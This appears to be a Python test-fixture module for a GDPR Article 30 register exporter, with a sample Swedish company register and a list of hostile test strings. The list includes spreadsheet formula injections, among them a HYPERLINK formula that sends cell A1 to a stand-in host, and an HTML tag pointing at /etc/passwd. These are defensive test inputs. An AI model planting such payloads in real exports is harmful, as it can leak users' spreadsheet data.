"""Reports for the tests of the writers: a realistic one in either language, a hostile one and one of any size."""

from dataclasses import dataclass, replace

from ropa_desktop.exports.report import Block, Column, Group, Line, Part, Report, Row, Table
from ropa_desktop.i18n import Language

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "+46 8 123 456 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindraget",
    "#N/A",
    "TRUE",
    "00123",
    "<img src='file:///etc/passwd'>",
    "<b>fet</b> & <a href='http://example.invalid'>länk</a> &amp; &nbsp;",
    "noll\x00klocka\x07slut",
    "bokstavligt _x000D_ och _x0041_",
    "emoji 😀 och kinesiska 漢字",
    "rad ett\nrad två\r\nrad tre",
    "(oparad \\ (parentes",
    "mjukt\u00adbindestreck, hårt\u00a0mellanslag, noll\u200bbredd",
    "Łódź, Ελλάδα, Київ, Đà Nẵng, İstanbul, Reykjavík",
    "personuppgiftsbiträdesavtalsförhandlingsprotokollsbilagor",
    "https://example.invalid/" + "mycket-lang-adress/" * 20,
)

_WORDS = {
    "purpose": ("Ändamål", "Purposes", "art. 30.1 b"),
    "subjects": ("Kategorier av registrerade", "Categories of data subjects", "art. 30.1 c"),
    "data": ("Kategorier av personuppgifter", "Categories of personal data", "art. 30.1 c"),
    "recipients": ("Kategorier av mottagare", "Categories of recipients", "art. 30.1 d"),
    "transfers": (
        "Överföringar till tredjeland eller en internationell organisation",
        "Transfers to a third country or an international organisation",
        "art. 30.1 e",
    ),
    "retention": ("Tidsfrister för radering", "Time limits for erasure", "art. 30.1 f"),
    "security": ("Tekniska och organisatoriska säkerhetsåtgärder", "Security measures", "art. 30.1 g"),
    "basis": ("Rättslig grund", "Legal basis", "art. 6.1"),
    "assessment": ("Konsekvensbedömning", "Impact assessment", "art. 35"),
    "owner": ("Ansvarig i verksamheten", "Owner", ""),
}


@dataclass(frozen=True)
class _Activity:
    number: str
    name: str
    purpose: tuple[str, ...]
    subjects: tuple[str, ...]
    data: tuple[str, ...]
    recipients: tuple[str, ...]
    transfers: tuple[str, ...]
    retention: tuple[str, ...]
    basis: tuple[str, ...]


_ACTIVITIES = (
    _Activity(
        "B-001",
        "Rekrytering",
        (
            "Pröva ansökningar till utlysta tjänster och välja ut den som ska anställas.",
            "Kunna visa att urvalet har gått rätt till om en sökande klagar på diskriminering.",
        ),
        ("Arbetssökande", "Referenspersoner"),
        (
            "Namn, adress, telefonnummer och e-postadress",
            "Ansökningshandlingar: personligt brev, meritförteckning, betyg och intyg",
            "Anteckningar från intervjuer och referenstagning",
            "Personnummer, när en anställning ska avtalas",
        ),
        (
            "Rekryteringssystemets leverantör (personuppgiftsbiträde)",
            "Fackliga organisationer vid förhandling",
        ),
        (),
        (
            "Två år efter att tjänsten tillsattes, det vill säga så länge talan om diskriminering kan väckas "
            "(6 kap. 4 och 6 §§ diskrimineringslagen).",
            "Spontanansökningar: sex månader.",
        ),
        (
            "Intresseavvägning (artikel 6.1 f): bolaget behöver kunna jämföra sökande och den sökande har själv "
            "lämnat uppgifterna för det ändamålet.",
        ),
    ),
    _Activity(
        "B-002",
        "Löner, semester och annan personaladministration",
        ("Betala rätt lön och redovisa skatt.", "Administrera semester, sjukfrånvaro och föräldraledighet."),
        ("Anställda", "Tidigare anställda", "Anställdas närmaste anhöriga"),
        (
            "Namn, personnummer och kontonummer",
            "Lön, förmåner, skatt och utmätning",
            "Frånvaro med orsak, däribland uppgifter om hälsa (artikel 9)",
            "Medlemskap i fackförening, när avgiften dras på lönen (artikel 9)",
            "Kontaktuppgifter till närmaste anhörig",
        ),
        (
            "Skatteverket",
            "Försäkringskassan",
            "Kronofogdemyndigheten vid utmätning av lön",
            "Bank",
            "Tjänstepensionsbolag och försäkringsgivare enligt kollektivavtal",
            "Lönesystemets leverantör (personuppgiftsbiträde)",
        ),
        ("Förenade kungariket: lönesystemets support. Beslut om adekvat skyddsnivå (artikel 45).",),
        (
            "Räkenskapsinformation: sju år efter utgången av det kalenderår då räkenskapsåret avslutades "
            "(7 kap. 2 § bokföringslagen).",
            "Övriga uppgifter: två år efter att anställningen upphörde.",
        ),
        (
            "Rättslig förpliktelse (artikel 6.1 c): skatteförfarandelagen och bokföringslagen.",
            "Avtal (artikel 6.1 b): anställningsavtalet.",
        ),
    ),
    _Activity(
        "B-003",
        "Kundservice och reklamationer",
        ("Besvara frågor och handlägga reklamationer enligt konsumentköplagen.",),
        ("Kunder", "Ombud för kunder"),
        ("Namn och kontaktuppgifter", "Köphistorik", "Ärendets innehåll och bilder på varan"),
        ("Transportföretag", "Ärendehanteringssystemets leverantör (personuppgiftsbiträde)"),
        (
            "USA: ärendehanteringssystemets drift. Standardavtalsklausuler (artikel 46.2 c) med kompletterande "
            "skyddsåtgärder; leverantören är inte ansluten till EU-US Data Privacy Framework.",
        ),
        ("Tre år efter att ärendet avslutades (reklamationsfristen).",),
        ("Avtal (artikel 6.1 b).",),
    ),
    _Activity(
        "B-004",
        "Kamerabevakning av lagerlokalen i Björkängen",
        ("Förebygga och utreda stöld och skadegörelse.",),
        ("Anställda", "Besökare", "Förare från transportföretag"),
        ("Rörliga bilder utan ljud",),
        ("Polismyndigheten vid förundersökning", "Försäkringsbolag"),
        (),
        (),
        ("Intresseavvägning (artikel 6.1 f).",),
    ),
    _Activity(
        "B-005",
        "Nyhetsbrev och direktmarknadsföring till kunder och tidigare kunder",
        ("Skicka erbjudanden om varor som liknar dem som kunden har köpt.",),
        ("Kunder", "Tidigare kunder"),
        ("E-postadress", "Köphistorik", "Öppnade utskick och klick"),
        ("Utskickstjänstens leverantör (personuppgiftsbiträde)",),
        ("Utanför EU och EES: landet är inte angivet.",),
        ("Tills kunden avregistrerar sig, dock längst två år efter senaste köp.",),
        ("Intresseavvägning (artikel 6.1 f) och 19 § marknadsföringslagen.",),
    ),
)


def _word(key: str, language: Language) -> str:
    return _WORDS[key][1 if language == "en" else 0]


def _line(key: str, values: tuple[str, ...], language: Language) -> Line:
    missing = "Not stated" if language == "en" else "Ej angivet"
    article = _WORDS[key][2]
    if language == "en":
        article = article.replace("art. 30.1 b", "Art. 30(1)(b)").replace("art.", "Art.")
    return Line(_word(key, language), values or (missing,), article, missing=not values)


def _block(activity: _Activity, language: Language) -> Block:
    english = language == "en"
    none = "No transfers." if english else "Inga överföringar sker."
    demanded = Group(
        "Required by Article 30(1)" if english else "Uppgifter enligt artikel 30.1",
        (
            _line("purpose", activity.purpose, language),
            _line("subjects", activity.subjects, language),
            _line("data", activity.data, language),
            _line("recipients", activity.recipients, language),
            _line("transfers", activity.transfers or (none,), language),
            _line("retention", activity.retention, language),
            _line(
                "security",
                ("Behörighetsstyrning efter roll", "Kryptering av bärbara datorer", "Loggning av åtkomst"),
                language,
            ),
        ),
    )
    beyond = Group(
        "Beyond Article 30" if english else "Utöver artikel 30",
        (
            _line("basis", activity.basis, language),
            _line(
                "assessment", ("Behövs inte: behandlingen uppfyller högst ett av nio kriterier.",), language
            ),
            _line("owner", ("HR-chefen",), language),
        ),
        beyond=True,
    )
    subtitle = (
        "Controller · active since 2018-05-25"
        if english
        else "Personuppgiftsansvarig · aktiv sedan 2018-05-25"
    )
    return Block(f"activity-{activity.number}", activity.number, activity.name, subtitle, (demanded, beyond))


def _activities_table(language: Language) -> Table:
    english = language == "en"
    return Table(
        name="Activities",
        title="Processing activities" if english else "Behandlingar",
        columns=(
            Column("No." if english else "Nr", 9),
            Column("Name" if english else "Namn", 28),
            Column(_word("purpose", language), 44),
            Column(_word("recipients", language), 40),
            Column("Persons" if english else "Antal personer", 12, kind="number"),
            Column("Reviewed" if english else "Granskad", 12, kind="date"),
            Column(_word("basis", language), 34, beyond=True),
        ),
        rows=tuple(
            Row(
                f"00000000-0000-4000-8000-00000000000{position}",
                (
                    activity.number,
                    activity.name,
                    "\n".join(activity.purpose),
                    "\n".join(activity.recipients),
                    position * 40,
                    "2025-03-04" if position % 2 else "2025-03",
                    "\n".join(activity.basis),
                ),
                f"activity-{activity.number}",
            )
            for position, activity in enumerate(_ACTIVITIES, 1)
        ),
        empty="There are no processing activities." if english else "Det finns inga behandlingar.",
        note="All activities of the organisation." if english else "Alla behandlingar i organisationen.",
    )


def _summary(language: Language, name: str, title: str, key: str) -> Table:
    english = language == "en"
    rows = [
        Row(f"{name}-{activity.number}-{place}", (value, f"{activity.number} {activity.name}"), anchor)
        for activity in _ACTIVITIES
        for place, value in enumerate(getattr(activity, key))
        for anchor in (f"activity-{activity.number}",)
    ]
    return Table(
        name=name,
        title=title,
        columns=(Column(_word(key, language), 50), Column("Activity" if english else "Behandling", 30)),
        rows=tuple(rows),
        empty="There are none." if english else "Det finns inga.",
    )


def sample_report(language: Language = "sv") -> Report:
    """A register of five activities as a data protection officer might keep it; the processor's part is empty."""
    english = language == "en"
    activities = _activities_table(language)
    summary_columns = (*activities.columns[:4], activities.columns[5])
    summary_rows = tuple(replace(row, cells=(*row.cells[:4], row.cells[5])) for row in activities.rows)
    recipients = _summary(language, "Recipients", "Recipients" if english else "Mottagare", "recipients")
    transfers = _summary(language, "Transfers", "Transfers" if english else "Överföringar", "transfers")
    processors = Table(
        "Processors",
        "Processing for others" if english else "Behandlingar som biträde",
        (Column("No." if english else "Nr", 9), Column("Controller" if english else "Ansvarig", 40)),
        (),
        "No processing is carried out for others."
        if english
        else "Ingen behandling utförs för andras räkning.",
    )
    return Report(
        language=language,
        title="Record of processing activities" if english else "Register över behandlingar",
        subtitle=(
            "under Article 30 of the General Data Protection Regulation"
            if english
            else "enligt artikel 30 i dataskyddsförordningen"
        ),
        organisation="Björkängens Möbler AB",
        version="Utgåva 4" if not english else "Edition 4",
        date="2026-11-22",
        register_id="7f0c2b1e-5d7a-4c51-9f0e-0a8a51c0ffee",
        cover=(
            Line(
                "Controller" if english else "Personuppgiftsansvarig",
                ("Björkängens Möbler AB, 556000-0000", "Verkstadsgatan 7, 123 45 Björkängen"),
                "Art. 30(1)(a)" if english else "art. 30.1 a",
            ),
            Line(
                "Representative" if english else "Företrädare",
                ("None designated" if english else "Ingen utsedd: bolaget är etablerat i Sverige",),
            ),
            Line(
                "Data protection officer" if english else "Dataskyddsombud",
                ("Not stated" if english else "Ej angivet",),
                missing=True,
            ),
            Line("Activities" if english else "Antal behandlingar", ("5",)),
        ),
        how_to_read=(
            (
                "The record has one section for each processing activity. What Article 30 requires comes first; what it "
                "does not require is set apart by a line in the margin.",
                "A required value that is missing is printed as “Not stated”; it is never left out.",
            )
            if english
            else (
                "Registret har ett avsnitt för varje behandling. Det som artikel 30 kräver står först; det som den inte "
                "kräver är avskilt med en linje i marginalen.",
                "En uppgift som krävs men saknas skrivs ut som ”Ej angivet”; den utelämnas aldrig.",
                "Beteckningar som B-001 är desamma i utskriften, i Excel och i programmet, så att de går att hänvisa till.",
            )
        ),
        sheets=(activities, recipients, transfers, processors),
        summaries=(
            replace(activities, columns=summary_columns, rows=summary_rows),
            recipients,
            transfers,
            processors,
        ),
        parts=(
            Part(
                "Activities as controller" if english else "Behandlingar som personuppgiftsansvarig",
                "" if english else "Artikel 30.1 i dataskyddsförordningen.",
                tuple(_block(activity, language) for activity in _ACTIVITIES),
                "There are none." if english else "Det finns inga.",
            ),
            Part(
                "Activities as processor" if english else "Behandlingar som personuppgiftsbiträde",
                "Article 30(2) of the regulation." if english else "Artikel 30.2 i dataskyddsförordningen.",
                (),
                "No processing is carried out for others."
                if english
                else "Ingen behandling utförs för andras räkning.",
            ),
        ),
    )


def hostile_report(text: str, language: Language = "en") -> Report:
    """The sample with one text in every place where a register's text may stand."""
    report = sample_report(language)
    line = Line(text, (text, text), text)
    table = replace(
        report.sheets[0],
        title=text,
        note=text,
        columns=(Column(text, 12), Column(text, 30, kind="date"), Column(text, 20, hidden=True)),
        rows=(Row("1", (text, text, text), "block"), Row("2", (text, None, 7))),
    )
    block = Block("block", text, text, text, (Group(text, (line,)), Group(text, (line,), beyond=True)))
    return replace(
        report,
        title=text,
        subtitle=text,
        organisation=text,
        version=text,
        cover=(line,),
        how_to_read=(text,),
        sheets=(table, replace(table, name="Second", rows=(), empty=text)),
        summaries=(table,),
        parts=(Part(text, text, (block,), text),),
    )


def large_report(activities: int) -> Report:
    """The Swedish sample with as many activities, each numbered anew."""
    report = sample_report("sv")
    part = report.parts[0]
    numbers = [f"B-{number:04}" for number in range(1, activities + 1)]
    blocks = tuple(
        replace(part.blocks[number % len(part.blocks)], anchor=name, number=name)
        for number, name in enumerate(numbers)
    )

    def grown(table: Table) -> Table:
        rows = table.rows and tuple(
            replace(table.rows[number % len(table.rows)], record=name, anchor=name)
            for number, name in enumerate(numbers)
        )
        return replace(table, rows=rows)

    return replace(
        report,
        sheets=tuple(map(grown, report.sheets)),
        summaries=tuple(map(grown, report.summaries)),
        parts=(replace(part, blocks=blocks), *report.parts[1:]),
    )
